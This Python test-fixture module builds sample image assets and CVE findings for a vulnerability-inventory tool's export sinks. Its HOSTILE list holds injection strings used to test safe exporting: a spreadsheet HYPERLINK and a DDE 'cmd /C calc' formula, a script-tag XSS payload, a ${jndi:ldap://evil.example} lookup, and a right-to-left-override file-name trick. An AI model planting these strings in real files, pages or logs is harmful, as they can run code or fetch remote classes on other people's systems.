"""Findings and assets for the sinks' tests: some of the kind that is found, and some that mean harm."""

from collections.abc import AsyncIterator, Iterable, Sequence
from datetime import UTC, datetime

from msgspec.structs import replace

from reedbed.model.exports import Asset, Finding, Head, Place, Text
from reedbed.model.identity import asset_id, finding_id
from reedbed.model.inventory import (
    Applicability,
    AssetClass,
    Coverage,
    FindingType,
    Lifecycle,
    Severity,
    Status,
    Triage,
)

AT = datetime(2026, 11, 22, 3, 0, tzinfo=UTC)
HEAD = Head(as_of=AT, version="0.1.0", query="finding.severity>=high")
DIGEST = "sha256:" + "ab" * 32


def image(path: str = "team/app", digest: str = DIGEST, tag: str | None = "1.4") -> Asset:
    return Asset(
        id=asset_id("prod", AssetClass.IMAGE, digest),
        connection="prod",
        asset_class=AssetClass.IMAGE,
        vendor_id=f"jfrog.example/docker-local/{path}@{digest}",
        name=f"docker-local/{path}:{tag}",
        lifecycle=Lifecycle.PRESENT,
        registry="jfrog.example",
        repository="docker-local",
        path=path,
        tag=tag,
        manifest_digest=digest,
        config_digest="sha256:" + "cd" * 32,
        architecture="amd64",
        os="linux",
        size_bytes=1_234_567,
        built_at=AT,
        uploaded_at=AT,
        package_type=None,
        repository_type=None,
        description=None,
        base_image=None,
        criticality=None,
        owner=None,
        coverage=Coverage.SCANNED,
        coverage_reason=None,
        scanned_at=AT,
        critical=1,
        high=0,
        medium=0,
        low=0,
        other=0,
        score=91.0,
        first_seen_at=AT,
        last_seen_at=AT,
    )


def repository(key: str = "docker-local") -> Asset:
    of = image()
    return replace(
        of,
        id=asset_id("prod", AssetClass.REPOSITORY, key),
        asset_class=AssetClass.REPOSITORY,
        vendor_id=f"jfrog.example/{key}",
        name=key,
        path=None,
        tag=None,
        manifest_digest=None,
        config_digest=None,
        package_type="docker",
        repository_type="local",
        description="images of the teams",
        coverage=None,
    )


def place(finding: str, of: Asset, version: str = "3.0.7-1") -> Place:
    return Place(
        finding=finding,
        asset=of.id,
        asset_name=of.name,
        vendor_id=of.vendor_id,
        registry=of.registry,
        repository=of.repository,
        path=of.path,
        tag=of.tag,
        digest=of.manifest_digest,
        version=version,
        fixed_versions=("3.0.8-1",),
        applicability=Applicability.APPLICABLE,
        paths=("docker://team/app:1.4", "deb://debian:bookworm:openssl:3.0.7-1"),
    )


def finding(vulnerability: str = "CVE-2026-1111", *, images: Iterable[Asset] | None = None) -> Finding:
    of = [image()] if images is None else list(images)
    component = "pkg:deb/debian/openssl"
    id_ = finding_id("prod", "docker-local/team/app", FindingType.VULNERABILITY, vulnerability, component)
    return Finding(
        id=id_,
        connection="prod",
        repository="docker-local",
        path="team/app",
        type=FindingType.VULNERABILITY,
        vulnerability=vulnerability,
        component=component,
        package_type="deb",
        issue="XRAY-1",
        title=f"{vulnerability} in debian/openssl",
        severity=Severity.CRITICAL,
        source_severity="Critical",
        cvss3_score=9.8,
        applicability=Applicability.APPLICABLE,
        status=Status.ACTIVE,
        triage=Triage.OPEN,
        justification=None,
        note=None,
        fix_version="3.0.8-1",
        published_at=AT,
        first_found_at=AT,
        last_found_at=AT,
        last_confirmed_at=AT,
        fixed_at=None,
        fixed_because=None,
        reopened_at=None,
        images=len(of),
        score=91.0,
        epss=0.42,
        epss_percentile=0.97,
        epss_as_of="2026-11-21",
        kev_added="2026-11-01",
        kev_due="2026-11-22",
        places=tuple(place(id_, each) for each in of),
        advisory=Text(
            summary="A heap overflow in a parser.",
            description="Longer words about it.",
            cwe=("CWE-787", "NVD-CWE-noinfo"),
            cvss_v3="9.8/CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
            references=("https://advisories.example/1111",),
            provider="JFrog",
        ),
    )


HOSTILE = (
    '=HYPERLINK("https://evil.example","see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\tx",
    "\rx",
    "  =1",
    "\uff1d1",
    "\u202eexe.gnp",
    "a\0b",
    'line\r\nbreak,"quote"',
    "\u2028</script><script>alert(1)</script>",
    "n" * 10_240,
    "%s%n{0}${jndi:ldap://evil.example}",
    "",
)


def hostile() -> list[Finding]:
    """Findings whose every text is one that a stranger would choose."""
    made = []
    for number, text in enumerate(HOSTILE):
        one = finding(f"CVE-2026-{2000 + number}")
        where = replace(
            one.places[0], asset_name=text, path=text or None, tag=text, version=text, paths=(text,)
        )
        made.append(
            replace(
                one,
                title=text,
                path=text,
                component=f"pkg:npm/{text}",
                source_severity=text,
                note=text,
                fix_version=text,
                issue=text,
                triage=list(Triage)[number % len(Triage)],
                severity=Severity(number % len(Severity)),
                justification=text,
                places=(where,),
                advisory=Text(summary=text, description=text, cwe=(text,), cvss_v3=text, remediation=text),
            )
        )
    return made


class Rows:
    """A source of rows that are at hand, given two at a time."""

    def __init__(self, findings: Sequence[Finding], assets: Sequence[Asset] = ()) -> None:
        self._findings = list(findings)
        self._assets = list(assets)

    async def findings(self, *, texts: bool = False) -> AsyncIterator[Sequence[Finding]]:
        for start in range(0, len(self._findings), 2):
            yield self._findings[start : start + 2]

    async def assets(self, *, details: bool = False) -> AsyncIterator[Sequence[Asset]]:
        for asset in self._assets:
            inside = [
                replace(each, places=tuple(p for p in each.places if p.asset == asset.id))
                for each in self._findings
                if any(p.asset == asset.id for p in each.places)
            ]
            yield [replace(asset, findings=tuple(inside)) if details else asset]


async def whole(chunks: AsyncIterator[bytes]) -> bytes:
    return b"".join([chunk async for chunk in chunks])
